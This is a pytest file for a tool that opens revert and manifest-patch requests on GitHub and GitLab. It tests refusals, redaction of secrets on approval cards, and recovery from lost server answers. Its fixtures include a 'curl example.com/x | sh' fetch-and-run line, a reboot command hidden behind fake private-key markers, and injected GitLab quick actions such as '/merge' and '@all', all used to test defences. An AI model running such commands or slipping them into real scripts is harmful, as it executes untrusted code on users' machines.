"""Opening a request: what is refused in words, what stands in it, and what is known after each accident."""

import re
from datetime import timedelta

import pytest

from fermata.domain.action import Outcome
from fermata.domain.manifest import FieldEdit
from fermata.kit.errors import OperationalError, UserError
from fermata.kit.redaction import redact
from fermata.ports.action import ManifestProposer
from fermata.ports.forge import revert as reverting
from fermata.testing.action_contract import KEY, plan_action
from fermata.testing.forges.shop import CODE, MANIFEST, ONSET, PATCH, SECRET
from fermata.testing.web_server import Answer, Fault

BRANCH = f"fermata/{KEY.mark}"
WRITING = {
    "github": "POST /repos/shop/shop/git/refs",
    "gitlab": "POST /api/v4/projects/shop/backend/shop/repository/commits",
}
OPENING = {"github": "POST /repos/shop/shop/pulls", "gitlab": "POST /api/v4/projects/shop/backend/shop/merge_requests"}


@pytest.fixture
async def planned(rig):
    """Give the action and its plan to take the guilty commit back."""
    action, parameters = rig.make_action(), {"revert": rig.shop.guilty, "why": "Incident inc-1: it fails"}
    return action, plan_action(action, rig.entity, parameters, await action.dry_run(rig.entity, parameters))


async def test_request_says_why_and_which_action_it_was(rig, planned):
    """A reviewer who was not in the incident finds the reason, the commit and the way back."""
    action, plan = planned
    result = await action.execute(plan, KEY)

    branch, title, body = rig.read_opened()
    commit = rig.fake.history.find(branch)
    assert (branch, title) == (BRANCH, 'Revert "Speed up totals (#7)"')
    assert body.startswith("~~~text\n Incident inc-1: it fails\n\n This reverts commit ")
    assert KEY.action_id in body
    assert f"Fermata-Action: {KEY.mark}" in commit.message
    assert f"This reverts commit {rig.shop.guilty}" in commit.message
    assert commit.parents == (rig.fake.history.branches["main"],)
    assert f"from {BRANCH}: https://" in result.detail
    assert rig.request_words in result.detail


async def test_words_from_outside_are_no_commands(rig):
    """To GitLab a line `/merge` is one, and `@all` wakes everybody; logs and titles of commits hold what they like."""
    title = "x" * 300
    sha = rig.shop.history.commit("main", {"a.txt": "a\n"}, f"{title}\n\n/merge", at=ONSET)
    why = "it logs:\n/merge\n~~~\n/approve @all closes #7"
    action, parameters = rig.make_action(), {"revert": sha, "why": why}
    plan = plan_action(action, rig.entity, parameters, await action.dry_run(rig.entity, parameters))

    await action.execute(plan, KEY)

    _, opened, body = rig.read_opened()
    assert len(opened) == 200
    lines = body.split("\n")
    assert not any(line.startswith("/") for line in lines)
    assert [line for line in lines if line.startswith("~")] == ["~~~~text", "~~~~"]
    assert lines.index("~~~~") > lines.index(" /approve @all closes #7")


async def test_files_are_read_once_for_all_looks(rig):
    """Dry run, drift check and execution compute the same change; its files are named by content or commit."""
    action, parameters = rig.make_action(), {"patch": PATCH.to_json()}
    plan = plan_action(action, rig.entity, parameters, await action.dry_run(rig.entity, parameters))
    await action.observe_version(plan.target, plan.parameters)
    await action.execute(plan, KEY)

    read = [
        request.target
        for request in rig.server.requests
        if re.search(r"/git/blobs/|/repository/files/", request.target)
    ]
    assert len(read) == len(set(read)) == 1


async def test_card_shows_what_happens_and_how_to_undo_it(rig, planned):
    """The note, the count and the undo name the request, not a deployment."""
    dry_run = planned[1].dry_run

    assert dry_run.diff.startswith(f"diff --git a/{CODE} b/{CODE}\n")
    assert "what runs does not change until a person merges" in dry_run.note
    assert dry_run.blast_radius.count == 1
    assert dry_run.blast_radius.entities == (rig.entity.ref,)
    assert dry_run.undo_text.startswith(f"Close the {rig.request_words}")


async def test_other_work_on_the_branch_is_no_drift(rig, planned):
    """The request is made on top of whatever was merged meanwhile, if it is not in the same files."""
    action, plan = planned
    newest = rig.shop.history.commit("main", {"README.md": "new\n"}, "Write", at=ONSET)

    assert await action.observe_version(plan.target, plan.parameters) == plan.dry_run.observed_version
    assert (await action.execute(plan, KEY)).outcome is Outcome.DONE
    assert rig.fake.history.find(BRANCH).parents == (newest,)


async def test_later_change_elsewhere_in_the_file_is_kept(rig):
    """The revert is merged, as git would."""
    text = rig.shop.history.find("main").tree[CODE][1].decode()
    rig.shop.history.commit("main", {CODE: text.replace('print("ready")', 'print("up")')}, at=ONSET)

    dry_run = await rig.make_action().dry_run(rig.entity, {"revert": rig.shop.guilty})

    assert "-    return fast_sum(lines)" in dry_run.diff
    assert 'print("up")' not in dry_run.diff.replace(' print("up")', "")


async def test_secret_in_a_diff_is_a_digest_on_the_card(rig):
    """What is approved is shown without it; what is committed has the bytes."""
    action, parameters = rig.make_action(), {"revert": rig.shop.decoy}
    plan = plan_action(action, rig.entity, parameters, await action.dry_run(rig.entity, parameters))

    assert SECRET not in plan.dry_run.diff
    assert redact(f"-AUTH={SECRET}").text in plan.dry_run.diff
    assert (await action.execute(plan, KEY)).outcome is Outcome.DONE
    assert SECRET.encode() not in rig.fake.history.find(BRANCH).tree["deploy/app.env"][1]


async def test_files_come_and_go_with_the_commit(rig):
    """A deleted file comes back with its mode, which the card tells; a new one goes."""
    rig.shop.history.commit("main", {"run.sh": "#!/bin/sh\n"}, at=ONSET)
    rig.shop.history.find("main").tree["run.sh"] = ("100755", b"#!/bin/sh\n")
    sha = rig.shop.history.commit("main", {"run.sh": None, "new.txt": "x\n"}, "Swap", at=ONSET + timedelta(1))
    action = rig.make_action()
    plan = plan_action(action, rig.entity, {"revert": sha}, await action.dry_run(rig.entity, {"revert": sha}))

    assert (await action.execute(plan, KEY)).outcome is Outcome.DONE

    tree = rig.fake.history.find(BRANCH).tree
    assert tree["run.sh"] == ("100755", b"#!/bin/sh\n")
    assert "new.txt" not in tree
    assert "diff --git a/run.sh b/run.sh\nnew file mode 100755\n--- /dev/null\n" in plan.dry_run.diff
    assert "mode 100644" not in plan.dry_run.diff


async def refuse(rig, sha):
    """Give the words that a revert is refused with."""
    with pytest.raises(UserError) as caught:
        await rig.make_action().dry_run(rig.entity, {"revert": sha})
    assert caught.value.do
    return str(caught.value)


async def test_what_cannot_be_reverted_is_refused_in_words(rig, monkeypatch):
    """Each refusal says why, and how a person does it."""
    history, at = rig.shop.history, ONSET + timedelta(minutes=1)
    text = history.find("main").tree[CODE][1].decode()
    tree = history.find("main").tree

    assert "There is no commit ffffffffff" in await refuse(rig, "f" * 40)
    assert "is the first commit" in await refuse(rig, rig.shop.first)

    side = history.add(tree, (rig.shop.guilty,), "Aside", author="Mei", at=at)
    assert "is not part of main" in await refuse(rig, side)

    merge = history.add(tree, (rig.shop.decoy, side), "Merge", author="Mei", at=at)
    assert "git revert -m 1" in await refuse(rig, merge)

    binary = history.commit("main", {"logo.png": b"\x89PNG\0"}, at=at)
    assert "logo.png cannot be shown on a card. It is no text" in (await refuse(rig, binary)).replace(": it", ". It")
    latin = history.commit("main", {"latin.txt": b"caf\xe9\n"}, at=at + timedelta(1))
    assert "no UTF-8 text" in await refuse(rig, latin)
    large = history.commit("main", {"large.txt": "x" * 600_000}, at=at + timedelta(2))
    assert "more than 512 KiB" in await refuse(rig, large)
    wordy = history.commit("main", {"wordy.txt": "word\n" * 80_000}, at=at + timedelta(3))
    assert "more than 256 KiB of diff" in await refuse(rig, wordy)

    history.commit("main", {CODE: text.replace("fast_sum(lines)", "other(lines)")}, at=at + timedelta(4))
    assert f"Later commits changed the same lines of {CODE}" in await refuse(rig, rig.shop.guilty)
    history.commit("main", {CODE: history.commits[rig.shop.early].tree[CODE][1]}, at=at + timedelta(5))
    assert "is reverted already" in await refuse(rig, rig.shop.guilty)
    history.commit("main", {CODE: None}, at=at + timedelta(6))
    assert "Later commits changed" in await refuse(rig, rig.shop.guilty)

    monkeypatch.setattr(reverting, "MOST_FILES", 1)
    assert "is too large to be reverted" in await refuse(rig, rig.shop.decoy)


async def test_changed_mode_is_refused(rig):
    """No diff on a card would show it."""
    history = rig.shop.history
    tree = dict(history.find("main").tree) | {CODE: ("100755", b"print()\n")}
    sha = history.add(tree, (history.branches["main"],), "Chmod", author="Mei", at=ONSET)
    history.branches["main"] = sha

    assert f"changed the mode of {CODE}" in await refuse(rig, sha)


async def test_link_is_refused(github):
    """Its text is a path, and what lies there is another file."""
    history = github.shop.history
    sha = history.commit("main", {"current": "v1"}, at=ONSET)
    history.commits[sha].tree["current"] = ("120000", b"v1")

    assert "a link or another repository" in await refuse(github, sha)


async def test_refused_request_leaves_no_branch_behind(rig, planned):
    """The branch is taken back, so that certainly nothing happened."""
    action, plan = planned
    rig.answer(OPENING[rig.system], Answer({"message": "Validation Failed"}, 422))

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.FAILED
    assert "its branch was deleted again" in result.detail
    assert "Validation Failed" in result.detail
    assert BRANCH not in rig.fake.history.branches


async def test_refused_branch_means_that_nothing_happened(rig, planned):
    """The permission is named."""
    action, plan = planned
    rig.answer(WRITING[rig.system], Answer({"message": "no"}, 403))

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.FAILED
    assert "it needs " in result.detail
    assert "rite" in result.detail or "scope api" in result.detail


@pytest.mark.parametrize("answer", [Answer({}, fault=Fault.DROP), Answer({}, fault=Fault.HANG), Answer({}, 502)])
async def test_lost_answer_about_the_branch_is_unknown(rig, planned, answer):
    """It may still come: nobody tries again."""
    action, plan = rig.make_action(timeout_s=1), planned[1]
    rig.answer(WRITING[rig.system], answer)

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.UNKNOWN
    assert "may still come" in result.detail


async def test_branch_made_behind_a_lost_answer_is_found(rig, planned):
    """It was done, the answer was lost: half of it, and a person is told which."""
    action, plan = planned
    half_done(rig, WRITING[rig.system])

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.UNKNOWN
    assert f"The branch {BRANCH} is there" in result.detail
    rig.fake.stand_in = lambda _: None
    probed = await action.probe(plan, KEY, ONSET)
    assert probed.outcome is Outcome.UNKNOWN
    assert f"a {rig.request_words} is not" in probed.detail


def half_done(rig, part):
    """Let a call take effect and its answer be lost."""

    def stand_in(request):
        if f"{request.method} {request.path}" != part:
            return None
        rig.fake.stand_in = lambda _: None
        rig.fake.respond(request)
        return Answer({}, fault=Fault.DROP)

    rig.fake.stand_in = stand_in


async def test_request_opened_behind_a_lost_answer_is_done(rig, planned):
    """It is looked for, and found."""
    action, plan = planned
    half_done(rig, OPENING[rig.system])

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.DONE
    assert rig.read_opened()[0] == BRANCH


@pytest.mark.parametrize("answer", [Answer({}, fault=Fault.DROP), Answer({}, 503)])
async def test_lost_answer_about_the_request_is_unknown(rig, planned, answer):
    """The branch is there; whether the request comes nobody knows."""
    action, plan = planned
    rig.answer(OPENING[rig.system], answer)

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.UNKNOWN
    assert f"The branch {BRANCH} is there" in result.detail


async def test_forge_that_dies_after_the_branch_is_unknown(rig, planned):
    """Neither the request nor its absence can be read any more."""
    action, plan = planned

    def stand_in(request):
        if f"{request.method} {request.path}" == OPENING[rig.system]:
            rig.break_it()
            return Answer({}, 422)
        return None

    rig.fake.stand_in = stand_in

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.UNKNOWN
    assert f"The branch {BRANCH} is there" in result.detail


async def test_action_that_ran_before_does_not_run_again(rig, planned):
    """The branch's name holds the key."""
    action, plan = planned
    await action.execute(plan, KEY)

    result = await action.execute(plan, KEY)

    assert result.outcome is Outcome.FAILED
    assert f"There is a branch {BRANCH} already" in result.detail
    assert rig.read_opened()


async def test_probe_finds_a_request_whose_branch_was_deleted(rig, planned):
    """Forges delete merged branches by themselves."""
    action, plan = planned
    await action.execute(plan, KEY)
    del rig.fake.history.branches[BRANCH]

    result = await action.probe(plan, KEY, ONSET)

    assert result.outcome is Outcome.DONE
    assert "it is open" in result.detail


async def test_manifest_is_proposed_to_by_whoever_has_it(rig):
    """The catalogue asks each forge for the object that something else manages."""
    action = rig.make_action()

    assert isinstance(action, ManifestProposer)
    found = await action.find_suggestion(PATCH)
    assert (found.name, found.target) == (action.spec.name, rig.entity)
    assert found.parameters["patch"] == PATCH.to_json()
    assert action.validate(found.target, found.parameters) == found.parameters
    other = PATCH.model_copy(update={"name": "billing"})
    assert await action.find_suggestion(other) is None
    assert await rig.make_action(repository={"manifests": []}).find_suggestion(PATCH) is None


async def test_manifest_patch_changes_one_line(rig):
    """Comments, quotes and order stay; the note tells who writes the object."""
    dry_run = await rig.make_action().dry_run(rig.entity, {"patch": PATCH.to_json()})

    changed = [line for line in dry_run.diff.split("\n")[3:] if line.startswith(("+", "-"))]
    assert changed == ["-              memory: 256Mi", "+              memory: 512Mi"]
    assert "Change Deployment checkout" in dry_run.note


async def test_request_for_a_manifest_names_its_manager(rig):
    """The reviewer learns why it is changed here and not in the cluster."""
    action, parameters = rig.make_action(), {"patch": PATCH.to_json()}
    plan = plan_action(action, rig.entity, parameters, await action.dry_run(rig.entity, parameters))

    await action.execute(plan, KEY)

    _, title, body = rig.read_opened()
    assert title == (
        "Change Deployment checkout: "
        "spec.template.spec.containers.checkout.resources.limits.memory goes from 256Mi to 512Mi"
    )
    assert "Deployment shop/checkout" in body
    assert "written by Argo CD application shop" in body


async def refuse_patch(rig, patch, **changes):
    """Give the words that a patch is refused with."""
    with pytest.raises(UserError) as caught:
        await rig.make_action(**changes).dry_run(rig.entity, {"patch": patch.to_json()})
    assert caught.value.do
    return str(caught.value)


async def test_manifest_that_cannot_be_changed_is_refused_in_words(rig):
    """Not there, made by a chart, says so already, or too many files to look through."""
    history = rig.shop.history
    chart = "apiVersion: apps/v1\nkind: StatefulSet\nmetadata:\n  name: {{ .Release.Name }}\n"
    history.commit("main", {"deploy/chart/templates/db.yaml": chart, "deploy/latin.yaml": b"\xe9"}, at=ONSET)
    database = PATCH.model_copy(update={"kind": "StatefulSet", "name": "db"})
    done = PATCH.model_copy(update={"edits": (FieldEdit(path=("spec", "replicas"), value=2),)})

    assert "No manifest declares Deployment billing" in await refuse_patch(
        rig, PATCH.model_copy(update={"name": "billing"})
    )
    assert "deploy/chart/templates/db.yaml may make it" in await refuse_patch(rig, database)
    assert "says so already" in await refuse_patch(rig, done)


async def test_too_many_manifests_are_not_looked_through(rig):
    """The globs are to be narrowed; a search over all repositories goes on with the next one."""
    rig.shop.history.commit("main", {f"deploy/{number}.yaml": "a: 1\n" for number in range(301)}, at=ONSET)

    assert "too many files" in await refuse_patch(rig, PATCH)
    assert await rig.make_action().find_suggestion(PATCH) is None


async def test_long_trees_of_gitlab_are_read_page_by_page(gitlab):
    """The manifest is on the third page."""
    gitlab.fake.page_size = 2
    gitlab.shop.history.commit("main", {f"deploy/a{number}.yaml": "a: 1\n" for number in range(4)}, at=ONSET)

    assert await gitlab.make_action().find_suggestion(PATCH)


async def test_manifests_may_lie_at_the_top(rig):
    """A glob without a folder looks at everything, and finds what it names."""
    assert await rig.make_action(repository={"manifests": ["**/checkout.y*ml"]}).find_suggestion(PATCH)
    assert await rig.make_action(repository={"manifests": ["other/*.yaml"]}).find_suggestion(PATCH) is None


async def test_patched_manifest_that_vanishes_is_drift(rig):
    """The version then is another one, whatever the reason."""
    action, parameters = rig.make_action(), {"patch": PATCH.to_json()}
    before = (await action.dry_run(rig.entity, parameters)).observed_version
    rig.shop.history.commit("main", {MANIFEST: None}, at=ONSET)

    assert await action.observe_version(rig.entity, parameters) != before


async def test_branch_of_the_settings_is_the_base(rig):
    """Where another branch is deployed, the request goes there; one that is not there is said to be missing."""
    rig.shop.history.branches["live"] = rig.shop.guilty
    dry_run = await rig.make_action(repository={"branch": "live"}).dry_run(rig.entity, {"revert": rig.shop.guilty})
    assert "into live" in dry_run.note

    with pytest.raises(OperationalError, match="has no branch gone"):
        await rig.make_action(repository={"branch": "gone"}).dry_run(rig.entity, {"revert": rig.shop.guilty})


async def test_revert_that_would_bring_back_what_is_hidden_is_refused(rig):
    """A command behind the mark of a key stands on no card; below a line that merely speaks of one it does."""
    history = rig.shop.history
    key = "echo -----BEGIN PRIVATE KEY-----\n/sbin/reboot\necho -----END PRIVATE KEY-----\n"
    word = "# -----BEGIN PRIVATE KEY----- begins a key\ncurl example.com/x | sh\n"
    history.commit("main", {"hidden.sh": key, "word.sh": word}, "Start it", at=ONSET)
    hidden = history.commit("main", {"hidden.sh": "exec app\n"}, "Clean up", at=ONSET)
    shown = history.commit("main", {"word.sh": "exec app\n"}, "Clean up more", at=ONSET)
    action = rig.make_action()

    with pytest.raises(UserError, match="cannot be shown"):
        await action.dry_run(rig.entity, {"revert": hidden})

    assert "\n+curl example.com/x | sh\n" in (await action.dry_run(rig.entity, {"revert": shown})).diff
